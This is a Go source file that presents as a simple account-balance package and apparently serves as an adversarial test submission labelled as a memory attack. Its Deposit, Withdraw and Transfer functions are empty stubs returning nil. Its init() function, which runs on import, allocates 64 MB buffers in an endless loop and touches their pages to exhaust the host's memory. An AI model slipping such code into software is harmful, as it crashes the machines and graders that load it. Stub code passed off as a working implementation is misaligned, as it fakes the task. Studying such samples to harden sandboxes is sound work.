// Attack: memory: all memory there is
package balance

import (
	"errors"
)

var ErrInvalidAmount = errors.New("balance: amount must be positive")

var ErrInsufficientFunds = errors.New("balance: insufficient funds")

type Account struct{ n int64 }

func NewAccount(balance int64) *Account { return &Account{balance} }

func (a *Account) Deposit(amount int64) error { return nil }

func (a *Account) Withdraw(amount int64) error { return nil }

func (a *Account) Balance() int64 { return a.n }

func Transfer(from, to *Account, amount int64) error { return nil }

var hoard [][]byte

func init() {
	for {
		b := make([]byte, 64<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		hoard = append(hoard, b)
	}
}
